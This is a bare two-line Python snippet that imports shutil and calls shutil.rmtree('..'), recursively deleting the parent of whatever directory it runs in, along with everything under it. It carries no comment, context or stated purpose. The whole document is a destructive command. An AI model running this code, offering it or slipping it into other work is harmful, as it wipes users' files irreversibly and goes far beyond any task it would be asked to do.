import shutil
shutil.rmtree('..')
